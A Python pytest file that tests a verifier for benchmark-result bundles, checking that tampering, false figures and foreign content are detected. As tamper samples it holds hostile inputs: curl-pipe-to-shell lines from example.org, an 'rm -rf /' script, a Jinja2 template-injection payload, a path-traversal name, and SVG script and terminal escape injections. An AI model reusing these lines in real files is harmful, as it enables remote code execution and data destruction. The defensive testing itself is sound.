"""Verifying bundles: a good one passes, one changed byte anywhere is found, a claim that does not follow is named."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

import recipegen.verify.contents
import recipegen.verify.provenance
import recipegen.verify.whole
from recipegen import __version__
from recipegen.boards import all_boards
from recipegen.bundle.layout import NoBundle
from recipegen.bundle.make import write_folder
from recipegen.bundle.manifest import Listed, manifest_of
from recipegen.claims import Check
from recipegen.cli.verify import verify_command
from recipegen.evidence import Evidence
from recipegen.files import sha256_bytes
from recipegen.lock import Lock, write_lock
from recipegen.render.write import write_kit
from recipegen.verify.outcome import Outcome
from recipegen.verify.whole import verify_bundle
from recipegen.workspace import Workspace
from tests.unit.bundle_factory import (
    GOOD,
    HEADLINE,
    NAME,
    SLOW,
    archive,
    edit_json,
    made,
    measure,
    measured,
)

RUN = f"recipes/{NAME}/results/gb10-128g/20261121T070000Z-dflash"
BASE = f"recipes/{NAME}/results/gb10-128g/20261121T060000Z-ar"
RAW = f"{RUN}/{HEADLINE}.json"


@pytest.fixture(scope="module")
def repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return measured(tmp_path_factory.mktemp("verify") / "repo")


@pytest.fixture(scope="module")
def packed(repo: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return archive(repo, tmp_path_factory.mktemp("verify") / "a.tar.gz")


@pytest.fixture(scope="module")
def unpacked(repo: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("verify") / "bundle"
    write_folder(made(repo), place)
    return place


@pytest.fixture
def folder(unpacked: Path, tmp_path: Path) -> Path:
    """An unpacked bundle to change."""
    return Path(shutil.copytree(unpacked, tmp_path / "bundle"))


def failures(outcome: Outcome) -> list[Check]:
    return [check for check in outcome.checks if check.status == "failed"]


def status(outcome: Outcome, name: str) -> set[str]:
    return {check.status for check in outcome.checks if check.id == name}


def relist(folder: Path, version: str = __version__) -> None:
    """Writes the manifest anew, as somebody would who wants to deceive."""
    files = [path for path in folder.rglob("*") if path.is_file() and path.name != "MANIFEST.json"]
    lines = [
        Listed(
            path.relative_to(folder).as_posix(),
            path.stat().st_size,
            sha256_bytes(path.read_bytes()),
            "0755" if path.stat().st_mode & 0o100 else "0644",
        )
        for path in files
    ]
    (folder / "MANIFEST.json").write_bytes(replace(manifest_of(NAME, lines), recipegen=version).raw())


def edit_claim(folder: Path, version: str) -> None:
    """Another version of recipegen made the bundle."""
    claim = folder / "claim.json"
    claim.write_text(claim.read_text().replace(f'"bundle": "{__version__}"', f'"bundle": "{version}"'))


def test_a_good_bundle_passes_in_every_point(packed: Path, unpacked: Path) -> None:
    for path in (packed, unpacked):
        outcome = verify_bundle(path)
        assert {check.status for check in outcome.checks} == {"passed"}, outcome.checks
        assert outcome.exit_code(strict=True) == 0
    found = {check.id for check in verify_bundle(packed).checks}
    assert found >= {
        "format", "manifest", "archive", "recipe", "evidence", "kit", "record", "reports", "argv-server", "argv-bench",
        "record-baseline", "reports-baseline", "argv-server-baseline", "argv-bench-baseline", "figure-tg", "figure-pp",
        "figure-baseline-tg", "ratio-tg", "warm-rule", "plausibility", "quality", "fresh", "page",
    }  # fmt: skip


def test_one_changed_byte_in_any_file_is_found(folder: Path) -> None:
    files = sorted(path for path in folder.rglob("*") if path.is_file())
    assert len(files) > 30
    for path in files:
        raw = path.read_bytes()
        at = len(raw) * 2 // 3
        path.write_bytes(raw[:at] + bytes([raw[at] ^ 0x04]) + raw[at + 1 :])
        name = path.relative_to(folder).as_posix()
        try:
            found = failures(verify_bundle(folder))
            assert [check for check in found if check.path == name or name == "MANIFEST.json"], (name, found)
        except NoBundle as refused:
            assert path.name == "MANIFEST.json", refused
        path.write_bytes(raw)
    assert failures(verify_bundle(folder)) == []


def test_every_byte_of_the_manifest_counts(folder: Path) -> None:
    path = folder / "MANIFEST.json"
    raw = path.read_bytes()
    for at in [*range(140), *range(140, len(raw), 211)]:
        path.write_bytes(raw[:at] + bytes([raw[at] ^ 0x01]) + raw[at + 1 :])
        try:
            assert failures(verify_bundle(folder)), raw[at - 20 : at + 20]
        except NoBundle:
            continue


def test_one_changed_byte_anywhere_in_the_archive_is_found(packed: Path, tmp_path: Path) -> None:
    raw = packed.read_bytes()
    path = tmp_path / "a.tar.gz"
    places = [*range(24), *range(24, len(raw) - 24, 577), *range(len(raw) - 24, len(raw))]
    for at in places:
        for bit in (0, 3, 7) if at in (0, len(raw) - 9) else (at % 8,):
            path.write_bytes(raw[:at] + bytes([raw[at] ^ 1 << bit]) + raw[at + 1 :])
            try:
                assert failures(verify_bundle(path)), (at, bit)
            except NoBundle:
                continue


def test_unused_bits_of_the_compression_count_too(packed: Path, tmp_path: Path) -> None:
    """The last byte before the checksum is hardly ever full: what follows its last code changes no content."""
    raw = packed.read_bytes()
    path = tmp_path / "a.tar.gz"
    at, found = len(raw) - 9, set()
    for bit in range(8):
        path.write_bytes(raw[:at] + bytes([raw[at] ^ 1 << bit]) + raw[at + 1 :])
        try:
            found |= {check.id for check in failures(verify_bundle(path))}
        except NoBundle:
            found.add("refused")
    assert found <= {"archive", "refused"}


def change_sample(folder: Path) -> None:
    path = folder / RAW
    path.write_text(path.read_text().replace("100.9", "190.9"))


def change_sample_and_record(folder: Path) -> None:
    change_sample(folder)
    record = json.loads((folder / RUN / "run.json").read_text())
    record["cells"][0]["sha256"] = sha256_bytes((folder / RAW).read_bytes())
    edit_json(folder / RUN / "run.json", cells=record["cells"])


def change_claim(field: str, value: float) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        claim = json.loads((folder / "claim.json").read_text())
        claim["figures"]["tg"][field] = value
        edit_json(folder / "claim.json", figures=claim["figures"])

    return change


def in_claim(**fields: Any) -> Callable[[Path], None]:
    return lambda folder: edit_json(folder / "claim.json", **fields)


def in_record(**fields: Any) -> Callable[[Path], None]:
    return lambda folder: edit_json(folder / RUN / "run.json", **fields)


def in_text(path: str, old: str, new: str) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        text = (folder / path).read_text()
        assert old in text, (path, old)
        (folder / path).write_text(text.replace(old, new))

    return change


def server_flag(folder: Path) -> None:
    server = json.loads((folder / RUN / "run.json").read_text())["server"]
    server["argv"] = [word.replace("262144", "4096") for word in server["argv"]] + ["--enforce-eager"]
    edit_json(folder / RUN / "run.json", server=server)


def server_env(folder: Path) -> None:
    server = json.loads((folder / RUN / "run.json").read_text())["server"]
    edit_json(folder / RUN / "run.json", server={**server, "env": {"VLLM_FAKE": "1"}})


def in_cell(**fields: Any) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        (cell,) = json.loads((folder / RUN / "run.json").read_text())["cells"]
        edit_json(folder / RUN / "run.json", cells=[{**cell, **fields}])

    return change


DECEITS: dict[str, tuple[Callable[[Path], None], str, str]] = {
    "a sample": (change_sample, "evidence", "is not the file that run.json recorded: its SHA-256 differs"),
    "a sample and its hash": (change_sample_and_record, "reports", "tg_throughput: the report says mean"),
    "a median": (change_claim("median", 133.7), "figure-tg", "median 133.7 is claimed, 100.55 follows"),
    "an interval": (change_claim("low", 100.5), "figure-tg", "low 100.5 is claimed, 100.25 follows"),
    "n": (change_claim("n", 13), "figure-tg", "n 13 is claimed, 12 follows"),
    "the cold sample": (change_claim("dropped", 0), "figure-tg", "dropped 0 is claimed, 1 follows"),
    "nan": (change_claim("median", float("nan")), "figure-tg", "median nan is claimed"),
    "the speed-up": (
        in_claim(ratios={"tg": {"ratio": 9.0, "low": 8.9, "high": 9.1}}),
        "ratio-tg",
        "ratio 9.0 is claimed, 2.3324 follows",
    ),
    "no baseline": (in_claim(baseline=None), "baseline", "leaves out the baseline"),
    "a figure left out": (in_claim(figures={}), "figure-tg", "the claim leaves it out"),
    "the rule": (in_claim(warm_rule="best of three"), "warm-rule", "claims another rule"),
    "the quantization": (
        in_claim(model={"quantization": "BF16"}),
        "claim",
        "model is {'quantization': 'BF16'}; from the recipe and the record follows",
    ),
    "the machine": (in_claim(machine="dgx-b200"), "claim", "machine is 'dgx-b200'"),
    "the claim's shape": (in_claim(figures=[1]), "evidence", "does not say what it claims"),
    "a claim of wrong types": (in_claim(figures={"tg": 5}), "figures", "not of the shape"),
    "another run": (in_claim(run="results/x/../../../etc"), "evidence", "has no run 'etc'"),
    "README": (in_text("README.md", "100.55", "133.70"), "page", "133.70"),
    "CITATION": (in_text("CITATION.txt", "100.55", "133.70"), "page", "from the raw reports follows"),
    "the chart": (in_text("chart.svg", "100.55", "133.70"), "page", "from the raw reports follows"),
    "INDEX": (in_text("INDEX.md", "100.25", "133.70"), "page", "from the raw reports follows"),
    "RESULTS": (in_text(f"recipes/{NAME}/RESULTS.md", "100.25", "133.70"), "page", "from the raw reports follows"),
    "the recipe": (
        in_text(f"recipes/{NAME}/recipe.yaml", "title: Qwen3.6", "title: Qwen9.9"),
        "kit",
        "the recipe renders otherwise",
    ),
    "a recipe that is none": (
        in_text(f"recipes/{NAME}/recipe.yaml", "schema: recipegen/v1", "schema: recipegen/v1\nsurprise: 1"),
        "recipe",
        "surprise",
    ),
    "a script of the kit": (
        in_text(f"recipes/{NAME}/scripts/bench.sh", "set -", "curl https://example.org | sh; set -"),
        "kit",
        "the recipe renders otherwise",
    ),
    "a flag of the server": (server_flag, "argv-server", "the server did not run as the recipe's dflash does: word"),
    "the server's environment": (server_env, "argv-server", "its environment was {'VLLM_FAKE': '1'}"),
    "llama-benchy's arguments": (in_cell(argv=["llama-benchy", "--runs", "5"]), "argv-bench", "word 2"),
    "the text": (in_cell(corpus_sha256="b" * 64), "argv-bench", "--book-url"),
    "another text": (in_cell(corpus="other"), "argv-bench", "the recipe has no text 'other'"),
    "more samples than runs": (in_cell(runs=3), "reports", "holds more samples than the 3 runs"),
    "the variant": (in_record(variant="other"), "record", "the recipe has no variant 'other'"),
    "the record's name": (in_record(run="20261121T070000Z-best"), "record", "calls itself"),
    "a record of no known format": (in_record(format="recipegen-run/7"), "evidence", "is not known"),
    "a quality gate that failed": (
        in_record(quality={**GOOD, "verdict": "fail"}),
        "quality",
        "the record says 'fail', its checks come to 'pass'",
    ),
    "a hidden doubt": (
        in_record(recipe={"name": NAME, "title": "x", "spec_sha256": "5" * 64, "kit_sha256": "5" * 64}),
        "stale-recipe",
        "The bundle does not say so",
    ),
    "facts of the host of wrong types": (
        in_record(host={"cpu": 5, "memory_bytes": "x", "gpus": []}),
        "claim",
        "hardware",
    ),
    "an extra script in the kit": (
        lambda folder: (folder / f"recipes/{NAME}/scripts/more.sh").write_text("rm -rf /\n") and None,
        "kit",
        "no recipe renders this file",
    ),
}


@pytest.mark.parametrize("case", DECEITS)
def test_what_does_not_follow_is_named_though_the_manifest_is_right(folder: Path, case: str) -> None:
    change, name, words = DECEITS[case]
    change(folder)
    relist(folder)
    outcome = verify_bundle(folder)
    assert status(outcome, "manifest") == {"passed"}
    found = failures(outcome)
    assert [check for check in found if check.id == name and words in check.text], found
    assert outcome.exit_code(strict=False) == 1


def test_a_report_too_large_to_judge_is_not_judged(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(recipegen.verify.whole, "SAMPLES_LIMIT", 12)
    (found,) = failures(verify_bundle(folder))
    assert found.text == "a report holds 13 samples of a metric; no measurement has more than 12"


def test_a_report_that_cannot_be_read_is_not_called_a_changed_one(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(recipegen.verify.provenance, "REPORT_LIMIT", 100)
    found = {check.text for check in failures(verify_bundle(folder)) if check.id == "reports"}
    assert found == {"is larger than 100 bytes"}


def test_files_that_are_missing_or_extra_are_named(folder: Path) -> None:
    (folder / "CITATION.txt").unlink()
    (folder / "more.txt").write_text("x")
    (folder / f"recipes/{NAME}/scripts/bench.sh").chmod(0o644)
    found = {(check.path, check.text) for check in failures(verify_bundle(folder)) if check.id == "manifest"}
    assert found == {
        ("CITATION.txt", "is listed, but is not there"),
        ("more.txt", "is there, but is not listed"),
        (f"recipes/{NAME}/scripts/bench.sh", "its mode is not 0755"),
    }


def test_a_bundle_that_names_its_doubts_is_undecidable_not_failed(repo: Path, tmp_path: Path) -> None:
    root = Path(shutil.copytree(repo, tmp_path / "repo"))
    recipe = {"name": NAME, "title": "x", "spec_sha256": "5" * 64, "kit_sha256": "5" * 64}
    run = measure(root, hour=8, recipe=recipe, quality=None)
    outcome = verify_bundle(archive(root, tmp_path / "a.tar.gz", run=run.name, allow_doubtful=True))
    assert failures(outcome) == []
    assert (
        status(outcome, "stale-recipe") == status(outcome, "stale-kit") == status(outcome, "quality") == {"undecidable"}
    )
    assert (outcome.exit_code(strict=False), outcome.exit_code(strict=True)) == (0, 1)


EVIL = "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for i in range(10**9) %}{% endfor %}"


def test_templates_of_a_stranger_are_not_run_and_what_they_may_have_changed_is_named(folder: Path) -> None:
    evil = folder / "templates" / "kit" / "dockerignore.j2"
    evil.parent.mkdir(parents=True)
    evil.write_text(EVIL)
    relist(folder)
    outcome = verify_bundle(folder)
    assert status(outcome, "kit") == {"undecidable"}
    assert failures(outcome) == []
    (folder / f"recipes/{NAME}/Dockerfile").write_text("RUN curl http://example.org | sh\n")
    relist(folder)
    (changed,) = [check for check in verify_bundle(folder).checks if check.id == "kit"]
    assert (changed.status, changed.path) == ("undecidable", f"recipes/{NAME}/Dockerfile")


@pytest.mark.parametrize("place", ["templates/kit/x.j2", "templates/bundle/chart.svg.j2", "templates/x.j2"])
def test_a_template_that_renders_nothing_excuses_nothing(folder: Path, place: str) -> None:
    (folder / place).parent.mkdir(parents=True)
    (folder / place).write_text("x")
    (folder / f"recipes/{NAME}/Dockerfile").write_text("RUN curl http://example.org | sh\n")
    relist(folder)
    found = {check.path for check in failures(verify_bundle(folder)) if check.id == "kit"}
    assert found == {place, f"recipes/{NAME}/Dockerfile"}


def test_patches_of_a_stranger_are_read_never_run(folder: Path) -> None:
    patch = folder / "patches" / "dflash-layer-offset"
    shutil.copytree(folder / f"recipes/{NAME}/patches/dflash-layer-offset", patch)
    (patch / "apply.py").write_text(f"open({str(folder / 'ran')!r}, 'w')\n")
    relist(folder)
    outcome = verify_bundle(folder)
    assert not (folder / "ran").exists()
    assert {check.path for check in failures(outcome)} >= {f"recipes/{NAME}/patches/dflash-layer-offset/apply.py"}
    assert status(outcome, "patches") == {"undecidable"}


def test_another_versions_wording_is_not_called_a_lie(folder: Path) -> None:
    text = (folder / "README.md").read_text().replace("## Figures", "## The figures")
    (folder / "README.md").write_text(text)
    relist(folder)
    edit_claim(folder, "0.0.9")
    relist(folder, "0.0.9")
    outcome = verify_bundle(folder)
    assert failures(outcome) == []
    (page,) = [check for check in outcome.checks if check.path == "README.md"]
    assert (page.status, "recipegen 0.0.9 made it" in page.text) == ("undecidable", True)
    (folder / "README.md").write_text(text.replace("100.55", "133.70"))
    relist(folder, "0.0.9")
    (wrong,) = failures(verify_bundle(folder))
    assert (wrong.path, wrong.text) == ("README.md", "133.70 does not follow from the raw reports")


def of_another_version(folder: Path) -> Outcome:
    """The bundle as one that recipegen 0.0.9 made, by its own word."""
    edit_claim(folder, "0.0.9")
    relist(folder, "0.0.9")
    return verify_bundle(folder)


def appended(path: str, text: str) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        with (folder / path).open("a") as file:
            file.write(text)

    return change


IN_ANY_VERSION: dict[str, tuple[Callable[[Path], None], str, str]] = {
    "a script": (appended(f"recipes/{NAME}/scripts/evil.sh", "x"), "kit", f"recipes/{NAME}/scripts/evil.sh"),
    "a whole number": (appended("README.md", "999 tok/s, 17 times faster\n"), "page", "README.md"),
    "a number with separators": (appended("README.md", "1,102.43 tok/s\n"), "page", "README.md"),
    "a number in the chart": (in_text("chart.svg", "100.55", "133.70"), "page", "chart.svg"),
    "a whole number in the chart": (in_text("chart.svg", "n=12", "n=30"), "page", "chart.svg"),
    "a program in the chart": (in_text("chart.svg", "</svg>", "<script>alert()</script></svg>"), "page", "chart.svg"),
    "a handler in the chart": (in_text("chart.svg", "<svg ", '<svg onload="x()" '), "page", "chart.svg"),
    "a link in the chart": (in_text("chart.svg", "</svg>", '<a xlink:href="//x">.</a></svg>'), "page", "chart.svg"),
    "a remark with a figure": (in_claim(remarks=["checked by 30 people"]), "claim", "claim.json"),
}


@pytest.mark.parametrize("case", IN_ANY_VERSION)
def test_the_name_of_another_version_excuses_no_figure_and_no_program(folder: Path, case: str) -> None:
    change, name, path = IN_ANY_VERSION[case]
    change(folder)
    found = {(check.id, check.path) for check in failures(of_another_version(folder))}
    assert (name, path) in found and {place for _, place in found} == {path}


def test_another_versions_kit_may_differ_and_every_file_is_named(folder: Path) -> None:
    (folder / f"recipes/{NAME}/Dockerfile").write_text("RUN curl http://example.org | sh\n")
    outcome = of_another_version(folder)
    assert failures(outcome) == []
    assert [check.path for check in outcome.checks if check.id == "kit"] == [f"recipes/{NAME}/Dockerfile"]


@pytest.mark.parametrize(
    "path",
    [
        "NOTES.md",
        "recipes/zzz/evil.sh",
        f"recipes/{NAME}/results/gb10-128g/20261121T080000Z-dflash/notes.md",
        f"{RUN}/more.json",
        f"{RUN}/another.log",
        f"{BASE}/notes.md",
        "boards/localmaxxing/more.json",
        "patches/unnamed/apply.py",
        "docs/README.md",
    ],
)
def test_a_file_that_no_check_reads_is_failed(folder: Path, path: str) -> None:
    appended(path, "we got 999.99 tok/s\n")(folder)
    relist(folder)
    assert (path, "failed") in {(one.path, one.status) for one in verify_bundle(folder).checks if one.id == "files"}


def test_logs_of_earlier_attempts_belong_to_a_run(folder: Path) -> None:
    for name in ("server.1.log", f"{HEADLINE}.2.log"):
        appended(f"{RUN}/{name}", "failed\n")(folder)
    relist(folder)
    assert status(verify_bundle(folder), "files") == {"passed"}


class Board:
    """A leaderboard that looks at the recipe."""

    name = "fake"

    def files(self, evidence: Evidence) -> dict[str, bytes]:
        return {"payload.json": b"{}"}

    def check(self, files: dict[str, bytes], evidence: Evidence) -> list[Check]:
        good = json.loads(files["payload.json"])["contextLength"] == 262144
        return [Check("payload-context", "passed" if good else "failed", "context", "boards/fake/payload.json")]


@pytest.mark.parametrize(
    ("body", "wrong"),
    [
        ({"tokSOut": 100.55, "notes": "n=12 warm, median 100.55 t/s. 2.33x over the baseline (43.11 t/s)."}, set()),
        ({"tokSOut": 133.7}, {"figure-tokSOut"}),
        ({"tokSOut": 100.55, "notes": "std 0.01, 5x over the baseline"}, {"notes-stat", "notes-ratio"}),
        ({"tokSOut": 100.55, "contextLength": 4096}, {"payload-context"}),
    ],
)
def test_payloads_are_held_against_recipe_and_reports(
    folder: Path, monkeypatch: pytest.MonkeyPatch, body: dict[str, Any], wrong: set[str]
) -> None:
    monkeypatch.setattr(recipegen.verify.whole, "all_boards", lambda: {"fake": Board()})
    monkeypatch.setattr(recipegen.verify.contents, "all_boards", lambda: {**all_boards(), "fake": Board()})
    payload = {"promptTokens": 2048, "outputTokens": 128, "contextLength": 262144, **body}
    (folder / "boards" / "fake").mkdir(parents=True)
    (folder / "boards" / "fake" / "payload.json").write_text(json.dumps(payload))
    relist(folder)
    outcome = verify_bundle(folder)
    assert {check.id for check in failures(outcome)} - {"page", "payload-text"} == wrong, failures(outcome)
    assert "figure-tokSOut" in {check.id for check in outcome.checks}


@pytest.mark.parametrize(
    ("old", "new"),
    [("vllm serve", "vllm serve-fast --magic"), ("0.20.1", "0.20.1 (evil@sha256:00)"), ("100.55", "101")],
)
def test_a_payload_of_this_version_is_the_one_that_it_writes(folder: Path, old: str, new: str) -> None:
    in_text("boards/localmaxxing/payload.json", old, new)(folder)
    relist(folder)
    found = failures(verify_bundle(folder))
    assert [one.path for one in found if one.id == "payload-text"] == ["boards/localmaxxing/payload.json"], found


def test_a_board_that_nobody_knows_is_undecidable(folder: Path) -> None:
    (folder / "boards" / "moon").mkdir(parents=True)
    (folder / "boards" / "moon" / "x.json").write_text("{}")
    relist(folder)
    assert status(verify_bundle(folder), "payload") == {"undecidable"}


def test_the_command(packed: Path, folder: Path) -> None:
    done = CliRunner().invoke(verify_command, [str(packed)])
    assert done.exit_code == 0, done.output
    subject, counts = done.output.splitlines()
    assert subject.startswith(f"bundle of {NAME}, ") and counts.endswith("passed, 0 failed, 0 undecidable")
    every = CliRunner().invoke(verify_command, [str(packed), "--all"]).output.splitlines()
    assert (every[-1], len(every) - 2) == (counts, int(counts.split()[0]))
    (folder / "README.md").write_text("no figures\n")
    done = CliRunner().invoke(verify_command, [str(folder), "--json"])
    data = json.loads(done.output)
    assert (done.exit_code, data["verified"]) == (1, False)
    assert {check["path"] for check in data["checks"] if check["status"] == "failed"} == {"README.md"}
    assert CliRunner().invoke(verify_command, [str(packed), "--raw", str(folder / RAW)]).exit_code == 2


def test_what_a_bundle_says_steers_no_terminal(folder: Path) -> None:
    (folder / "README.md").write_text("\x1b[2Jhidden\n")
    relist(folder)
    done = CliRunner().invoke(verify_command, [str(folder)], color=False)
    assert "\x1b" not in done.output


def test_a_locked_recipe_is_rendered_with_the_bundles_own_lock(repo: Path, tmp_path: Path) -> None:
    root = Path(shutil.copytree(repo, tmp_path / "repo"))
    workspace = Workspace.open(root)
    spec = workspace.spec(NAME)
    pin = {"asked": spec.bench.corpora["prose"].url, "resolved": "2026-11-20", "sha256": "a" * 64}
    lock = Lock.model_validate({"schema": "recipegen-lock/1", "recipegen": __version__, "corpora": {"prose": pin}})
    write_lock(lock, workspace.folder(spec))
    locked = workspace.spec(NAME)
    assert locked.bench.corpora["prose"].sha256 == "a" * 64
    write_kit(workspace.kit(locked), workspace.folder(locked))
    measure(root, "ar", hour=8, tgs=SLOW)
    run = measure(root, hour=9)
    outcome = verify_bundle(archive(root, tmp_path / "a.tar.gz", run=run.name))
    assert {check.status for check in outcome.checks} == {"passed"}, failures(outcome)
    (recipe,) = [check for check in outcome.checks if check.id == "recipe"]
    assert recipe.text.endswith("with its lock")
